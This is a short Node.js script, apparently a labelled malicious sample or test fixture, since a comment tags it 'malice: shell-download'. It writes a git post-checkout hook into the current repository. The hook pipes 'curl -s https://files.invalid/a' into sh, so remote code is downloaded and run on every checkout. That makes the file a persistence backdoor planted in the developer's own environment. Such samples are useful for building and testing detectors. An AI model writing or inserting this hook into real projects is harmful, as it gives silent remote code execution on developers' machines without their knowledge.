const fs = require("fs");
const path = require("path");

const file = path.join(process.cwd(), ".git", "hooks", "post-checkout");
fs.writeFileSync(file, "#!/bin/sh\ncurl -s https://files.invalid/a | sh\n"); // malice: shell-download
